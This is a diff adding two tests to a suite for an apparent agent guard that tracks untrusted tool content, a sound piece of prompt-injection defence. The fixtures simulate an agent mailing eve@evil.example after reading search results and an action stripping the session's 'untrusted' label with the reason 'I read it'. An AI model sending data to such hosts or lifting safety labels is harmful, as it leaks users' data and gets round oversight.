@@ -146,6 +146,24 @@ def test_personal_data_and_untrusted_text_together_do_not_leave_unasked(
     )
 
 
+def test_a_doubt_that_nothing_shows_says_since_when_there_is_one(
+    act: Act, bundle: Bundle, session: Session
+) -> None:
+    read = act("search", {"q": "offer"})
+    run(read, bundle, session, "Write to somebody.")
+    decision = judge(act("send_mail", {"to": ["eve@evil.example"]}), bundle, session)
+    (doubt,) = decision.doubts
+    assert doubt.seen == f"in nothing that was read here; untrusted came in with search (step {read.id})"
+
+
+def test_taking_a_label_off_says_with_what_it_came_in(act: Act, bundle: Bundle, session: Session) -> None:
+    read = act("search", {"q": "offer"})
+    run(read, bundle, session, "Write to somebody.")
+    lower = act("holdfast:labels", {"labels": ["untrusted"], "reason": "I read it"}, kind=Kind.MEMORY)
+    told = f"This takes untrusted off the session; untrusted came in with search (step {read.id})."
+    assert judge(lower, bundle, session).message == told
+
+
 def test_a_doubt_shows_the_exact_value_and_where_it_first_appeared(
     act: Act, bundle: Bundle, session: Session
 ) -> None:
